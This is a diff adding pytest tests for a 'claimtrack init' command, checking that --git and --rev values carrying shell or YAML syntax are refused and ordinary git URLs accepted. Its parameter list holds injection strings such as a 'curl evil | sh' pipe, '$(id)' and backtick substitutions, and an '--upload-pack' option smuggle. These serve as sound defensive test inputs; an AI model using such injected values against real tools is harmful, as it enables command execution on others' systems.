@@ -162,3 +162,51 @@ def test_no_repository_here_suggests_init(tmp_path: Path, monkeypatch: pytest.Mo
         f"claimtrack: no claims repository here: no folder from {tmp_path.name} upwards holds claims/, sources/ "
         "or vocabulary/; run 'claimtrack init' to make one here, or name one with --root\n"
     )
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--git", 'https://example.org/x.git"; curl evil | sh; echo "'),
+        ("--git", "https://example.org/$(id).git"),
+        ("--git", "https://example.org/x.git #comment"),
+        ("--git", "--upload-pack=touch /tmp/x"),
+        ("--git", "https://example.org/x.git\nrun: evil"),
+        ("--rev", "v1`id`"),
+        ("--rev", "v1 #"),
+        ("--rev", "-v1"),
+        ("--rev", "v1..v2"),
+        ("--rev", "refs/.hidden"),
+        ("--rev", "main.lock"),
+        ("--rev", "yes'\n  - repo: evil"),
+    ],
+)
+def test_init_refuses_a_git_source_a_shell_or_yaml_would_read_as_syntax(
+    tmp_path: Path, option: str, value: str
+) -> None:
+    """Issue 28, item 14: --git and --rev were pasted raw into the workflow's shell line and into YAML."""
+    args = ["--git", value] if option == "--git" else ["--git", "https://example.org/x.git", "--rev", value]
+    code, output = invoke("init", str(tmp_path / "new"), *args)
+    assert code == 2
+    assert output.startswith(f"claimtrack: {option} "), output
+    assert output.count("\n") == 1
+    assert not (tmp_path / "new").exists()
+
+
+@pytest.mark.parametrize(
+    ("url", "rev"),
+    [
+        ("https://github.com/team/claimtrack.git", "v1.2.0"),
+        ("git@github.com:team/claimtrack.git", "0123456789abcdef0123456789abcdef01234567"),
+        ("ssh://git@host.example/team/claimtrack", "release/2026-12"),
+        ("file:///srv/git/claimtrack", "main"),
+    ],
+)
+def test_init_accepts_the_forms_git_and_pip_take(tmp_path: Path, url: str, rev: str) -> None:
+    code, output = invoke("init", str(tmp_path), "--git", url, "--rev", rev)
+    assert code == 0, output
+    config = YAML(typ="safe").load((tmp_path / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
+    assert (config["repos"][0]["repo"], config["repos"][0]["rev"]) == (url, rev)
+    workflow = (tmp_path / ".github/workflows/claimtrack.yml").read_text(encoding="utf-8")
+    installed = url.replace("git@github.com:", "ssh://git@github.com/")  # pip needs a scheme
+    assert f"run: python -m pip install 'claimtrack @ git+{installed}@{rev}'" in workflow
